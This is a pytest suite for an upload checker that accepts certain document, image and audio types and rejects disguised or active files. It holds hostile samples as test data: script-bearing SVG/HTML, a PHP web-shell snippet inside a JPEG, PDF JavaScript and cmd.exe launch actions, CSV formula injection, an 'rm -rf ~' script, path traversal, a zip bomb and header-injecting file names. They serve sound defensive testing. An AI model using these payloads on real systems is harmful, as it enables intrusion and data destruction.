"""Which files are taken: each kind as what it is, and none that is, holds or means something else."""

from __future__ import annotations

import io
import re
import threading
import time
import zipfile
from collections.abc import Callable
from contextlib import ExitStack, suppress
from xml.sax.saxutils import escape

import openpyxl
import pytest

from accountability.files import inspection
from accountability.files.inspection import EXTENSIONS, BadFile, extension_of, judge, safe_name, turn_of
from accountability.files.judging.program import check
from accountability.files.judging.reasons import Unfit
from tests.accountability.files import hostile, made_files
from tests.config.test_processes import wait_for


@pytest.mark.parametrize("name", made_files.GOOD)
def test_every_kind_is_taken_as_what_it_is(name: str) -> None:
    assert judge(name, made_files.GOOD[name]) == (name, EXTENSIONS[name.rpartition(".")[2].lower()])


def test_a_workbook_that_a_program_wrote_is_taken() -> None:
    book, file = openpyxl.Workbook(), io.BytesIO()
    sheet = book.create_sheet("明细")
    sheet["A1"], sheet["A2"] = "时间", "=1+1"
    sheet["A3"].hyperlink = "https://example.com/"
    book.save(file)
    assert judge("明细.xlsx", file.getvalue()) == ("明细.xlsx", EXTENSIONS["xlsx"])


def test_a_link_to_click_is_let_be() -> None:
    linked = made_files.docx({"word/_rels/document.xml.rels": made_files.relation("hyperlink", "https://example.com/")})
    assert judge("a.docx", linked)[0] == "a.docx"


@pytest.mark.parametrize("target", ["https://a/", "HTTP://a/", "mailto:a@b", "tel:10086", "#_Toc1"])
def test_a_link_to_the_web_a_mail_or_a_place_inside_is_let_be(target: str) -> None:
    for content in (linked(target), field(f'HYPERLINK \\o "file" "{target}"'), drawn(f"'{target}'")):
        assert judge("a.docx", content)[0] == "a.docx"
    assert judge("a.docx", field(r'HYPERLINK \l "place" \h'))[0] == "a.docx"
    assert judge("a.docx", drawn(f"'{target}'", "word/drawings/a.vml"))[0] == "a.docx"


def test_words_of_a_formula_inside_a_cell_are_let_be() -> None:
    for text in ("时间,内容\r\n2026-11-24,问=WEBSERVICE(是什么|啊)!", "a@b.cn,|再说!", "a,'=WEBSERVICE(A1)"):
        assert judge("a.csv", text.encode())[0] == "a.csv"


def crowded() -> bytes:
    return hostile.crowded(b"<w:instrText/>", 2_100_000)


def with_template() -> bytes:
    return made_files.docx(
        {"word/_rels/settings.xml.rels": made_files.relation("attachedTemplate", "https://evil/t.dotm")}
    )


def encrypted() -> bytes:
    """The bit that says a part is encrypted, set in both places where it stands."""
    content = bytearray(made_files.docx())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        for found in re.finditer(re.escape(mark), bytes(content)):
            content[found.start() + place] |= 1
    return bytes(content)


def bomb() -> bytes:
    return made_files.docx({"word/media/image1.png": bytes(201 * 1024 * 1024)})


def many_parts() -> bytes:
    return made_files.docx({f"word/{number}.xml": b"" for number in range(5001)})


def entities() -> bytes:
    said = '<!DOCTYPE t [<!ENTITY a "b">]>'
    parts = {"word/document.xml": b"", "_rels/.rels": said.encode() + made_files.relation("hyperlink", "https://a/")}
    return made_files.docx(parts)


def twice_named() -> bytes:
    file = io.BytesIO(made_files.docx())
    with zipfile.ZipFile(file, "a") as package, pytest.warns(UserWarning, match="Duplicate name"):
        package.writestr("word/document.xml", b"<other/>")
    return file.getvalue()


MISMATCH, DAMAGED = "内容与扩展名不符", "文件已损坏"
NOT_TAKEN = "不接受这种文件，可用：pdf png jpg jpeg docx xlsx wav mp3 m4a amr txt csv"
BAD_PDF = "PDF 不合规范，无法完整检查，请重新导出（打印为 PDF）后再传"
ACTIVE_PDF, ACTIVE_OFFICE = "PDF 含有脚本、启动命令或内嵌文件", "文件含有宏、控件或内嵌对象"
ELSEWHERE, LOCKED, NO_TEXT = (
    "文件引用了外部模板或文件，请断开链接后另存",
    "文件加了密码，无法检查",
    "文字不是 UTF-8 或 GB18030 编码，请另存后再传",
)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><script>alert(1)</script>"
EXE = b"MZ\x90\x00\x03\x00\x00\x00" + bytes(200)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)

FILE_LINK = "文件中有不指向网页或邮箱的链接（如本机或局域网的文件），请删去后另存"
FORMULA_LINK = "单元格中的链接公式（HYPERLINK）会隐去真实地址，请改为直接写出网址"
STARTS = "文件中的域或公式会启动程序或读取外部内容"

NOT_OF_THE_WEB = (
    "file:///C:/a.exe", "FILE://host/share", r"\\\\host\\share", "//host/share/a.docx", "C:\\a.exe", "..\\a.docx",
    "ms-word:ofe|u|a", "search-ms:query=a", "javascript:a()", "a.docx", "",
)  # fmt: skip


def linked(target: str) -> bytes:
    return made_files.docx({"word/_rels/document.xml.rels": made_files.relation("hyperlink", target)})


def field(code: str) -> bytes:
    """A document with a field, its code cut over two runs."""
    runs = "".join(f"<w:instrText>{escape(part)}</w:instrText>" for part in (code[:5], code[5:]))
    limits = [f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "end")]
    return made_files.docx(
        {"word/document.xml": f"<w:document xmlns:w='w'>{limits[0]}{runs}{limits[1]}</w:document>".encode()}
    )


def drawn(link: str, part: str = "word/document.xml") -> bytes:
    return made_files.docx({part: f"<v:shape xmlns:v='v' href={link}/>".encode()})


def workbook(formula: str) -> bytes:
    return made_files.xlsx({"xl/worksheets/sheet1.xml": f"<sheet><f>{escape(formula)}</f></sheet>".encode()})


NASTY: list[tuple[str, bytes | Callable[[], bytes], str, str]] = [
    ("a.svg", SVG, "a.svg", NOT_TAKEN),
    ("a.html", HTML, "a.html", NOT_TAKEN),
    ("a.exe", EXE, "a.exe", NOT_TAKEN),
    ("a.pptx", made_files.docx(), "a.pptx", NOT_TAKEN),
    ("a", made_files.pdf(), "a", NOT_TAKEN),
    ("a.pdf.exe", made_files.pdf(), "a.pdf.exe", NOT_TAKEN),
    ("a.pdf\x00.exe", made_files.pdf(), "a.pdf.exe", NOT_TAKEN),
    ("a\u202efdp.exe", made_files.pdf(), "afdp.exe", NOT_TAKEN),
    ("a.png", HTML, "a.png", MISMATCH),
    ("a.png", SVG, "a.png", MISMATCH),
    ("a.png", made_files.jpeg(), "a.png", MISMATCH),
    ("a.png", made_files.png() + b"<script>alert(1)</script>", "a.png", "图片后面附有别的内容"),
    ("a.png", made_files.png() + made_files.docx(), "a.png", "图片后面附有别的内容"),
    ("a.png", made_files.png()[:-12], "a.png", "图片不完整"),
    ("a.png", made_files.png(100_000, 501), "a.png", "图片尺寸过大（超过 5000 万像素）"),
    ("a.png", made_files.png(0, 1), "a.png", MISMATCH),
    ("a.jpg", made_files.jpeg(60_000, 60_000), "a.jpg", "图片尺寸过大（超过 5000 万像素）"),
    ("a.jpg", made_files.jpeg()[:20], "a.jpg", "图片不完整"),
    ("a.jpg", b"\xff\xd8\xff<?php system($_GET[0]);", "a.jpg", "文件中夹有网页或脚本"),
    ("a.pdf", EXE, "a.pdf", MISMATCH),
    ("a.pdf", HTML + made_files.pdf(), "a.pdf", MISMATCH),
    ("a.pdf", made_files.pdf()[:-6], "a.pdf", MISMATCH),
    ("a.pdf", made_files.pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "a.pdf", ACTIVE_PDF),
    ("a.pdf", made_files.pdf(b"/OpenAction << /S /J#61vaScript >>"), "a.pdf", ACTIVE_PDF),
    ("a.pdf", made_files.pdf(b"/AA << /JS 4 0 R >>", b"(app.alert(1))"), "a.pdf", ACTIVE_PDF),
    ("a.pdf", made_files.pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "a.pdf", ACTIVE_PDF),
    ("a.pdf", made_files.pdf(b"/Names << /EmbeddedFiles 2 0 R >>"), "a.pdf", ACTIVE_PDF),
    ("a.pdf", made_files.packed_pdf(b"/OpenAction << /S /JavaScript >>"), "a.pdf", ACTIVE_PDF),
    ("a.pdf", made_files.pdf(trailer=b"/Encrypt 3 0 R /ID [<00> <00>] "), "a.pdf", BAD_PDF),
    ("a.docx", b"PK\x05\x06" + bytes(18), "a.docx", MISMATCH),
    ("a.docx", EXE + made_files.docx(), "a.docx", MISMATCH),
    ("a.docx", made_files.docx()[:-40], "a.docx", DAMAGED),
    ("a.docx", made_files.xlsx(), "a.docx", MISMATCH),
    ("a.xlsx", made_files.docx(), "a.xlsx", MISMATCH),
    ("a.xlsx", OLE, "a.xlsx", "文件加了密码或为旧版 Office 格式，请去掉密码并另存为 .xlsx"),
    ("a.docx", made_files.office({"word/document.xml": b""}, ""), "a.docx", MISMATCH),
    ("a.docx", made_files.office({}, made_files.overridden("word/document.xml", made_files.WORD)), "a.docx", MISMATCH),
    ("a.docx", made_files.docx({"word/vbaProject.bin": b"x"}), "a.docx", ACTIVE_OFFICE),
    ("a.docx", made_files.docx({"word/VBAPROJECT.BIN": b"x"}), "a.docx", ACTIVE_OFFICE),
    ("a.docx", made_files.docx(types=made_files.overridden("word/x", "application/vnd.ms-office.vbaProject")), "a.docx",
     ACTIVE_OFFICE),
    ("a.docx", made_files.docx({"word/embeddings/oleObject1.bin": OLE}), "a.docx", ACTIVE_OFFICE),
    ("a.docx", made_files.docx({"word/activeX/activeX1.xml": b""}), "a.docx", ACTIVE_OFFICE),
    ("a.docx", with_template, "a.docx", ELSEWHERE),
    *(("a.docx", linked(escape(target)), "a.docx", FILE_LINK) for target in NOT_OF_THE_WEB),
    ("a.docx", field(r'HYPERLINK "file://host/share"'), "a.docx", FILE_LINK),
    ("a.docx", field(r'hyperlink \o "https://a" \n \\\\host\share'), "a.docx", FILE_LINK),
    ("a.docx", field(r'HYPERLINK \l "place" "C:\\a.exe"'), "a.docx", FILE_LINK),
    ("a.docx", field(r'HYPERLINK \o "' + "a" * 250 + r'" "file://host"'), "a.docx", FILE_LINK),
    ("a.docx", drawn("'file://host/share'"), "a.docx", FILE_LINK),
    ("a.docx", drawn("'&#102;ile://host/share'"), "a.docx", FILE_LINK),
    ("a.docx", drawn("'file://host/share'", "word/drawings/a.vml"), "a.docx", FILE_LINK),
    ("a.xlsx", workbook('HYPERLINK("file://host/share","账单")'), "a.xlsx", FORMULA_LINK),
    *(("a.csv", f"a{sign}=cmd&'/c calc'!A0|{sign}=HYPERLINK(A1)".encode(), "a.csv", FORMULA_LINK) for sign in "|:^~ "),
    ("a.csv", "sep=。\na。=WEBSERVICE(A1)".encode(), "a.csv", STARTS),
    ("a.csv", b'"sep=#"\r\na#=WEBSERVICE(A1)', "a.csv", STARTS),
    ("a.csv", b"sep=x\nax=WEBSERVICE(A1)", "a.csv", MISMATCH),
    ("a.docx", crowded, "a.docx", "文件中的元素过多，请拆分后再传"),
    ("a.docx", encrypted, "a.docx", LOCKED),
    ("a.docx", bomb, "a.docx", "文件解压后过大"),
    ("a.docx", many_parts, "a.docx", "文件解压后过大"),
    ("a.docx", entities, "a.docx", DAMAGED),
    ("a.docx", twice_named, "a.docx", DAMAGED),
    ("a.docx", made_files.docx({"../../etc/passwd": b""}), "a.docx", DAMAGED),
    ("a.txt", "甲\x00乙".encode(), "a.txt", NO_TEXT),
    ("a.txt", "甲乙丙".encode("utf-16"), "a.txt", NO_TEXT),
    ("a.txt", EXE, "a.txt", NO_TEXT),
    ("a.txt", b"\xff\xff\xff\xff", "a.txt", NO_TEXT),
    ("a.txt", HTML, "a.txt", MISMATCH),
    ("a.csv", b"  " + SVG, "a.csv", MISMATCH),
    ("a.txt", made_files.pdf(), "a.txt", MISMATCH),
    ("a.txt", b"#!/bin/sh\nrm -rf ~\n", "a.txt", MISMATCH),
    ("a.wav", made_files.mp3(), "a.wav", MISMATCH),
    ("a.mp3", b"\xff\xfb\x90\x00" + b"<script>" * 100, "a.mp3", "文件中夹有网页或脚本"),
    ("a.mp3", b"ID3" + b"\xff" * 40, "a.mp3", MISMATCH),
    ("a.m4a", made_files.m4a(handler=b"vide"), "a.m4a", "文件含有视频，只接受录音"),
    ("a.m4a", made_files.m4a() + b"PK\x03\x04", "a.m4a", MISMATCH),
    ("a.amr", b"#!/bin/sh\n", "a.amr", MISMATCH),
    ("a.pdf", b"", "a.pdf", "文件是空的"),
    ("a.txt", b"a" * (20 * 1024 * 1024 + 1), "a.txt", "文件超过 20 MB"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("name", "content", "shown", "why"), NASTY, ids=[f"{n}-{row[2]}" for n, row in enumerate(NASTY)]
)
def test_what_isnt_what_it_says_is_refused_by_name(
    name: str, content: bytes | Callable[[], bytes], shown: str, why: str
) -> None:
    with pytest.raises(BadFile) as refused:
        judge(name, content if isinstance(content, bytes) else content())
    assert str(refused.value) == f"“{shown}”未收下：{why}。"


def test_a_file_of_just_the_greatest_size_is_taken() -> None:
    assert judge("a.txt", b"a" * (20 * 1024 * 1024))[0] == "a.txt"


@pytest.mark.parametrize("extension", EXTENSIONS)
def test_a_heap_of_bytes_cut_anywhere_is_refused_with_a_sentence(extension: str) -> None:
    """No damage comes to another exception than the one that has a sentence."""
    good = next(content for name, content in made_files.GOOD.items() if name.lower().endswith(extension))
    tried, answered = 0, 0
    for place in range(1, len(good), max(len(good) // 200, 1)):
        for content in (good[:place], good[place:], good[:place] + b"\xff" + good[place + 1 :]):
            tried += 1
            with suppress(Unfit):
                check(extension, content)
            answered += 1
    assert answered == tried


MEGABYTE = 1024 * 1024
SLOW: dict[str, tuple[str, Callable[[], bytes]]] = {
    "streams that don't end": ("a.pdf", lambda: made_files.pdf(b"stream\n" * (19 * MEGABYTE // 7))),
    "streams without end": ("a.pdf", lambda: made_files.pdf(b"stream\nendstream" * (19 * MEGABYTE // 16))),
    "packed objects": ("a.pdf", lambda: made_files.pdf(b"/ObjStm stream\n" * (19 * MEGABYTE // 15))),
    "packed nothing": ("a.pdf", lambda: made_files.packed_pdf(bytes(19 * MEGABYTE)) * 9),
    "hidden letters": ("a.pdf", lambda: made_files.pdf(b"#41" * (19 * MEGABYTE // 3))),
    "empty sound": ("a.mp3", lambda: b"ID3\x03\x00\x00\x00\x00\x00\x00" + bytes(19 * MEGABYTE)),
    "filled picture": ("a.jpg", lambda: b"\xff\xd8" + b"\xff" * (19 * MEGABYTE)),
    "empty chunks": ("a.png", lambda: made_files.png()[:33] + (bytes(4) + b"IDAT" + bytes(4)) * (19 * MEGABYTE // 12)),
    "empty boxes": ("a.m4a", lambda: made_files.m4a() + b"\x00\x00\x00\x08free" * (19 * MEGABYTE // 8)),
    "relations": (
        "a.docx",
        lambda: made_files.docx({"_rels/.rels": b"<r>" + b"<a/>" * (2 * MEGABYTE - 1000) + b"</r>"}),
    ),
    "words": ("a.txt", lambda: b" " * (19 * MEGABYTE)),
}
"""Files made to keep whoever looks at them busy."""


@pytest.mark.parametrize("case", SLOW)
def test_no_file_takes_long_to_judge(case: str) -> None:
    name, make = SLOW[case]
    content = make()
    began = time.process_time()
    with suppress(Unfit):
        check(extension_of(name), content)
    assert time.process_time() - began < 5


@pytest.mark.parametrize(
    ("given", "safe"),
    [
        ("../../etc/passwd.txt", "passwd.txt"),
        ("C:\\Users\\王\\报告.pdf", "报告.pdf"),
        ("..\\..\\a.pdf", "a.pdf"),
        ("a\u202egnp.pdf", "agnp.pdf"),
        ("\u2066报告\u2069.pdf", "报告.pdf"),
        ("a\r\nSet-Cookie: x.pdf", "aSet-Cookie_ x.pdf"),
        ("a\x00b\x7f.pdf", "ab.pdf"),
        ('a"<b>|?.pdf', "a__b___.pdf"),
        (" . 报告 .pdf. ", "报告.pdf"),
        (".pdf", "pdf"),
        ("CON.pdf", "_CON.pdf"),
        ("长" * 200 + ".docx", "长" * 115 + ".docx"),
        ("e\u0301.txt", "\u00e9.txt"),
        ("a.2026.11.24.txt", "a.2026.11.24.txt"),
        ("a." + "x" * 300, "a"),
    ],
)  # fmt: skip
def test_a_name_is_made_harmless(given: str, safe: str) -> None:
    assert safe_name(given) == safe


# One at a time of a person


class InTurn:
    """Files that are looked at in threads of their own, until `done` is set."""

    def __init__(self) -> None:
        self.done, self.begun = threading.Event(), threading.Semaphore(0)
        self.said: list[str] = []
        self.threads: list[threading.Thread] = []

    def begin(self, person: int) -> None:
        self.threads.append(threading.Thread(target=self._look, args=[person]))
        self.threads[-1].start()

    def _look(self, person: int) -> None:
        try:
            with turn_of(person, "a.txt"):
                self.begun.release()
                self.done.wait(10)
        except BadFile as bad:
            self.said.append(str(bad))

    def end(self) -> list[str]:
        self.done.set()
        for thread in self.threads:
            thread.join()
        return self.said


OTHERS_FIRST = "“a.txt”未收下：您的其他文件正在检查，请稍后再传。"


def waits(person: int) -> bool:
    with inspection._turns:
        return person in inspection._waiting


def test_one_file_of_a_person_is_looked_at_one_waits_and_a_third_is_refused() -> None:
    mine = InTurn()
    mine.begin(1)
    assert mine.begun.acquire(timeout=10)
    mine.begin(1)
    wait_for(lambda: waits(1), 10)
    with pytest.raises(BadFile, match="您的其他文件正在检查"), turn_of(1, "b.txt"):
        pytest.fail("a third of the same person")
    with turn_of(2, "b.txt"):
        pass  # somebody else's
    assert mine.end() == []
    with turn_of(1, "b.txt"):
        pass  # nothing is left behind


def test_who_waits_too_long_is_told(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(inspection, "PATIENCE", 0.05)
    mine = InTurn()
    mine.begin(1)
    assert mine.begun.acquire(timeout=10)
    mine.begin(1)
    mine.threads[1].join()
    assert mine.end() == [OTHERS_FIRST]
    assert not waits(1)


def test_a_file_that_is_refused_gives_its_turn_back() -> None:
    with ExitStack() as turns, suppress(BadFile):
        turns.enter_context(turn_of(1, "a.txt"))
        raise BadFile
    with turn_of(1, "a.txt"):
        pass
